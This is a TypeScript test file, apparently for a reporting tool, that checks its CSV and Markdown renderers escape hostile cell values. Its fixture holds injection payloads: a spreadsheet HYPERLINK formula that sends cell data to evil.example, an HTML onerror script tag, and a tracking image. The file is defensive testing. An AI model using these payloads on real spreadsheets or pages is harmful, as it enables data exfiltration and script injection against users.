import { renderReport } from '../../src/reports/renderers';
import type { ReportDocument } from '../../src/reports/report-document';

/** A report whose cells come from outside Candor (an actor's name from a JWT, say), rendered for tools that run or render them. */
const hostile: ReportDocument = {
  kind: 'denials',
  title: 'Denials',
  parameters: {},
  generatedAt: '2026-11-29T12:00:00.000Z',
  logHead: { seq: 7, hash: 'a'.repeat(64) },
  summary: [],
  primaryTable: 'Withheld',
  data: {},
  sections: [
    {
      title: 'Withheld',
      tables: [
        {
          title: 'Withheld',
          columns: ['who', 'count', 'delta'],
          rows: [
            ['=HYPERLINK("http://evil.example/?"&A1,"x")', 3, -2],
            ['@SUM(1)', 0, 0],
            ['<img src=x onerror=alert(1)>', 1, 1],
            ['line\rbreak | pipe', 2, 2],
            ['![tracker](https://evil.example/pixel)', 4, 4],
          ],
        },
      ],
    },
  ],
};

describe('report renderers and values they do not control', () => {
  it('CSV: text a spreadsheet would run as a formula is quoted with an apostrophe; numbers stay numbers', async () => {
    const lines = (await renderReport(hostile, 'csv')).toString().trim().split('\n');
    expect(lines.slice(1, 3)).toEqual([`"'=HYPERLINK(""http://evil.example/?""&A1,""x"")",3,-2`, "'@SUM(1),0,0"]);
  });

  it('Markdown: a value never becomes markup (HTML, a link, an image), and never ends its table row', async () => {
    const markdown = (await renderReport(hostile, 'md')).toString();
    expect(markdown).not.toContain('<img');
    expect(markdown).toContain('| &lt;img src=x onerror=alert\\(1\\)&gt; | 1 | 1 |');
    expect(markdown).toContain('| line break \\| pipe | 2 | 2 |');
    // Nor a link or an image a viewer would load.
    expect(markdown).toContain('| \\!\\[tracker\\]\\(https://evil.example/pixel\\) | 4 | 4 |');
  });
});
